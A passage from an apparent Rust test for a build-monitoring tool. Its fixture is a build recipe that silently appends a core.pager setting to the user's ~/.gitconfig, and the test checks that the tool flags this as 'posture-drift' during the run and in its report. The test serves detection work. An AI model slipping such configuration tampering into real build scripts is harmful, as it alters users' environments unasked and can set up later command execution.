            "all:\n\t@sh -c 'printf \"[core]\\n\\tpager = x\\n\" >> ~/.gitconfig'; sleep 1.5; echo is-later >&2\n",
        );
        let output = place.run(&["--watch"], &["/bin/sh", "build.sh"]);
        let said = text(&output.stderr);
        let (before, _) = said.split_once("is-later").unwrap_or_else(|| panic!("{said}"));
        let line =
            before.lines().find(|line| line.contains("posture-drift")).unwrap_or_else(|| panic!("{said}"));
        assert!(
            line.contains("/home/.gitconfig") && line.contains("the end tells whether it stays"),
            "{line}"
        );
        // And the end confirms it, with the same step.
        let report = place.report();
        let drift =
            report["findings"].as_array().unwrap().iter().find(|finding| finding["rule"] == "posture-drift");
        let drift = drift.unwrap_or_else(|| panic!("{report:#}"));
        assert_eq!(
            (drift["step"].as_str(), drift["object"].as_str().map(|path| path.ends_with("/.gitconfig"))),
            (Some("local/run"), Some(true))
        );
        place.replay_is_the_same(&output);
    });
}
